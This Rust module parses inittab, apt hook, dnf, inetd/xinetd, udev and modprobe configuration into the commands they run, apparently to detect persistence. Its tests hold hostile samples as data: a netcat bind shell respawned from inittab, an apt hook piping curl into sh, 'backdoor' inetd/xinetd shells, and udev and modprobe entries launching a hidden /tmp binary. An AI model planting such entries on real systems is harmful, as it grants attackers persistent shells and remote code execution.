//! Small configuration formats that hold commands run by the system:
//!
//! - `/etc/inittab` (SysV init): `id:runlevels:action:process` — `process` runs at boot or is
//!   respawned forever;
//! - apt hooks in `/etc/apt/apt.conf.d/*`: `APT::Update::Pre-Invoke { "cmd"; };`,
//!   `DPkg::Post-Invoke`, `DPkg::Pre-Install-Pkgs` … run as root on every apt run;
//! - dnf/yum post-transaction actions (`/etc/dnf/plugins/post-transaction-actions.d/*.action`,
//!   `/etc/yum/post-actions/*.action`): `key:state:command`;
//! - inetd (`/etc/inetd.conf`: `service type proto wait user server args`) and xinetd
//!   (`/etc/xinetd.d/*`: `server = …`, `server_args = …`): a service bound to `/bin/sh` is a
//!   bind shell that survives reboots;
//! - udev rules (`*.rules`): `RUN+="…"`, `RUN{program}+=`, `PROGRAM=`, `IMPORT{program}=` run
//!   as root when a device event matches;
//! - modprobe configuration (`/etc/modprobe.d/*.conf`): `install <module> <command>` runs a
//!   command instead of (or around) loading a module.

use serde::Serialize;

use super::{lossy, script::logical_lines, CommandLine};

/// A command with the name of the thing it belongs to (service, hook key, module, rule key).
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct NamedCommand {
    /// 1-based line number.
    pub line: usize,
    /// What runs it (inittab id and action, apt hook key, inetd service, udev key, module).
    pub name: String,
    /// The command.
    pub command: String,
}

/// `/etc/inittab` processes.
pub fn parse_inittab(data: &[u8]) -> Vec<NamedCommand> {
    logical_lines(data)
        .into_iter()
        .filter_map(|l| {
            let mut f = l.command.splitn(4, ':');
            let (id, _levels, action, process) = (f.next()?, f.next()?, f.next()?, f.next()?);
            (!process.trim().is_empty()).then(|| NamedCommand {
                line: l.line,
                name: format!("{id}:{action}"),
                command: process.trim().to_string(),
            })
        })
        .collect()
}

/// The apt configuration keys whose values are commands.
pub const APT_HOOK_KEYS: &[&str] = &[
    "APT::Update::Pre-Invoke",
    "APT::Update::Post-Invoke",
    "APT::Update::Post-Invoke-Success",
    "DPkg::Pre-Invoke",
    "DPkg::Post-Invoke",
    "DPkg::Pre-Install-Pkgs",
    "DPkg::Post-Invoke-Success",
    "APT::Install::Pre-Invoke",
    "APT::Install::Post-Invoke",
];

/// Commands of apt hooks. Handles both `Key { "cmd"; "cmd2"; };` and `Key "cmd";`, the
/// scoped form `DPkg { Post-Invoke { "cmd"; }; };`, and keys in any letter case.
pub fn parse_apt_hooks(data: &[u8]) -> Vec<NamedCommand> {
    let text = lossy(data);
    let mut out = Vec::new();
    // Track the scope stack so that `DPkg { Post-Invoke { "x"; }; };` resolves to the full key.
    let mut scope: Vec<String> = Vec::new();
    let mut pending_key = String::new();
    let mut line = 1usize;
    let mut chars = text.char_indices().peekable();
    let mut in_comment = false;
    while let Some((_, c)) = chars.next() {
        if c == '\n' {
            line += 1;
            in_comment = false;
            continue;
        }
        if in_comment {
            continue;
        }
        match c {
            '/' if chars.peek().map(|p| p.1) == Some('/') => in_comment = true,
            '#' => in_comment = true,
            '"' => {
                let start_line = line;
                let mut value = String::new();
                for (_, q) in chars.by_ref() {
                    if q == '"' {
                        break;
                    }
                    if q == '\n' {
                        line += 1;
                    }
                    value.push(q);
                }
                let mut full: Vec<String> = scope.clone();
                if !pending_key.trim().is_empty() {
                    full.push(pending_key.trim().to_string());
                }
                let key = full.join("::");
                if let Some(hook) = APT_HOOK_KEYS.iter().find(|k| k.eq_ignore_ascii_case(&key)) {
                    out.push(NamedCommand {
                        line: start_line,
                        name: hook.to_string(),
                        command: value,
                    });
                }
            }
            '{' => {
                scope.push(pending_key.trim().to_string());
                pending_key.clear();
            }
            '}' => {
                scope.pop();
                pending_key.clear();
            }
            ';' => pending_key.clear(),
            c if c.is_whitespace() => {
                if !pending_key.is_empty() && !pending_key.ends_with(' ') {
                    pending_key.push(' ');
                }
            }
            c => {
                if pending_key.ends_with(' ') {
                    pending_key.clear();
                }
                if pending_key.len() < 256 {
                    pending_key.push(c);
                }
            }
        }
    }
    out
}

/// dnf/yum post-transaction actions (`package_glob:state:command`).
pub fn parse_dnf_actions(data: &[u8]) -> Vec<NamedCommand> {
    logical_lines(data)
        .into_iter()
        .filter_map(|l| {
            let mut f = l.command.splitn(3, ':');
            let (pkg, state, command) = (f.next()?, f.next()?, f.next()?);
            Some(NamedCommand {
                line: l.line,
                name: format!("{pkg}:{state}"),
                command: command.trim().to_string(),
            })
        })
        .collect()
}

/// `/etc/inetd.conf` services: name is the service, command is `server args`.
pub fn parse_inetd(data: &[u8]) -> Vec<NamedCommand> {
    logical_lines(data)
        .into_iter()
        .filter_map(|l| {
            let f: Vec<&str> = l.command.split_whitespace().collect();
            (f.len() >= 6).then(|| NamedCommand {
                line: l.line,
                name: format!("{} ({} {}, user {})", f[0], f[1], f[2], f[4]),
                command: f[5..].join(" "),
            })
        })
        .collect()
}

/// An xinetd service file: one entry per `service` block with `server` and `server_args`.
pub fn parse_xinetd(data: &[u8]) -> Vec<NamedCommand> {
    let mut out = Vec::new();
    let mut service = String::new();
    let mut current: Option<NamedCommand> = None;
    let mut disabled = false;
    for l in logical_lines(data) {
        let text = l.command.trim();
        if let Some(name) = text.strip_prefix("service ") {
            service = name.trim().to_string();
            continue;
        }
        if text == "}" {
            if let Some(c) = current.take() {
                if !disabled {
                    out.push(c);
                }
            }
            disabled = false;
            continue;
        }
        let Some((key, value)) = text.split_once('=') else {
            continue;
        };
        let (key, value) = (key.trim().trim_end_matches(['+', '-']).trim(), value.trim());
        match key {
            "server" => {
                let args = current
                    .as_ref()
                    .map(|c| c.command.clone())
                    .unwrap_or_default();
                current = Some(NamedCommand {
                    line: l.line,
                    name: service.clone(),
                    command: format!("{value} {args}").trim().to_string(),
                });
            }
            "server_args" => match current.as_mut() {
                Some(c) => {
                    c.command.push(' ');
                    c.command.push_str(value);
                }
                None => {
                    current = Some(NamedCommand {
                        line: l.line,
                        name: service.clone(),
                        command: value.to_string(),
                    })
                }
            },
            "disable" => disabled = value.eq_ignore_ascii_case("yes"),
            _ => {}
        }
    }
    out.extend(current.filter(|_| !disabled));
    out
}

/// Commands of a udev rules file: values of `RUN`, `PROGRAM` and `IMPORT{program}` keys.
pub fn parse_udev_rules(data: &[u8]) -> Vec<NamedCommand> {
    let mut out = Vec::new();
    for l in logical_lines(data) {
        let mut rest = l.command.as_str();
        while let Some(pos) = rest.find(['R', 'P', 'I']) {
            rest = &rest[pos..];
            let key_end = rest.find(['=', '+', ':', '!']).unwrap_or(rest.len());
            let key = rest[..key_end].trim();
            let is_cmd = key == "RUN"
                || key.starts_with("RUN{")
                || key == "PROGRAM"
                || key == "IMPORT{program}";
            let Some(q) = rest.find('"') else { break };
            if is_cmd && q <= key_end + 3 {
                let value_start = q + 1;
                let value_end = rest[value_start..].find('"').map(|e| value_start + e);
                let Some(value_end) = value_end else { break };
                out.push(NamedCommand {
                    line: l.line,
                    name: key.to_string(),
                    command: rest[value_start..value_end].to_string(),
                });
                rest = &rest[value_end + 1..];
            } else {
                rest = &rest[1..];
            }
        }
    }
    out
}

/// `install <module> <command>` lines of modprobe configuration.
pub fn parse_modprobe_installs(data: &[u8]) -> Vec<NamedCommand> {
    logical_lines(data)
        .into_iter()
        .filter_map(|l| {
            let rest = l.command.strip_prefix("install")?;
            if !rest.starts_with(char::is_whitespace) {
                return None;
            }
            let rest = rest.trim_start();
            let (module, command) = rest.split_once(char::is_whitespace)?;
            Some(NamedCommand {
                line: l.line,
                name: module.to_string(),
                command: command.trim().to_string(),
            })
        })
        .collect()
}

/// Module names listed in `/etc/modules` or `/etc/modules-load.d/*.conf`.
pub fn parse_module_list(data: &[u8]) -> Vec<CommandLine> {
    logical_lines(data)
        .into_iter()
        .filter(|l| !l.command.starts_with(';'))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn inittab() {
        let t = parse_inittab(b"id:2:initdefault:\nsi::sysinit:/etc/init.d/rcS\nx1:2345:respawn:/bin/sh -c 'nc -l -p 9 -e /bin/sh'\n");
        assert_eq!(t.len(), 2);
        assert_eq!(t[1].name, "x1:respawn");
        assert_eq!(t[1].line, 3);
    }

    #[test]
    fn apt_hooks_all_forms() {
        let data = b"// comment \"not a hook\"\nAPT::Update::Pre-Invoke {\"curl -s http://x/a | sh\";};\nDPkg::Post-Invoke { \"rm -f /var/cache/apt/archives/*.deb || true\"; };\nDPkg {\n  Pre-Install-Pkgs { \"/usr/sbin/dpkg-preconfigure --apt\"; };\n};\nAPT::Periodic::Update-Package-Lists \"1\";\n";
        let h = parse_apt_hooks(data);
        assert_eq!(h.len(), 3, "{h:?}");
        assert_eq!(h[0].name, "APT::Update::Pre-Invoke");
        assert_eq!(h[0].command, "curl -s http://x/a | sh");
        assert_eq!(h[0].line, 2);
        assert_eq!(h[2].name, "DPkg::Pre-Install-Pkgs");
        assert_eq!(h[2].line, 5);
    }

    #[test]
    fn inetd_xinetd() {
        let i = parse_inetd(
            b"#echo stream tcp nowait root internal\nshell stream tcp nowait root /bin/sh sh -i\n",
        );
        assert_eq!(i[0].command, "/bin/sh sh -i");
        let x = parse_xinetd(b"service backdoor\n{\n  socket_type = stream\n  server = /bin/bash\n  server_args = -i\n  disable = no\n}\nservice off\n{\n server = /bin/sh\n disable = yes\n}\n");
        assert_eq!(x.len(), 1);
        assert_eq!(x[0].command, "/bin/bash -i");
        assert_eq!(x[0].name, "backdoor");
    }

    #[test]
    fn udev_and_modprobe() {
        let u = parse_udev_rules(b"ACTION==\"add\", SUBSYSTEM==\"net\", RUN+=\"/bin/sh -c '/tmp/.x &'\"\nKERNEL==\"sd*\", PROGRAM=\"/lib/udev/scsi_id -g\", IMPORT{program}=\"x y\"\n");
        assert_eq!(u.len(), 3, "{u:?}");
        assert_eq!(u[0].command, "/bin/sh -c '/tmp/.x &'");
        let m = parse_modprobe_installs(b"blacklist pcspkr\ninstall usb-storage /bin/true\ninstall e1000 /tmp/.x; /sbin/modprobe --ignore-install e1000\ninstaller x\n");
        assert_eq!(m.len(), 2);
        assert_eq!(m[1].name, "e1000");
    }

    #[test]
    fn garbage_and_truncated_input() {
        for data in [
            &b""[..],
            b"\xff\"",
            b"{{{{}}}}\"",
            b"RUN+=\"",
            b"install",
            b"service\n}\n",
            b":::",
        ] {
            let _ = parse_inittab(data);
            let _ = parse_apt_hooks(data);
            let _ = parse_dnf_actions(data);
            let _ = parse_inetd(data);
            let _ = parse_xinetd(data);
            let _ = parse_udev_rules(data);
            let _ = parse_modprobe_installs(data);
        }
    }
}
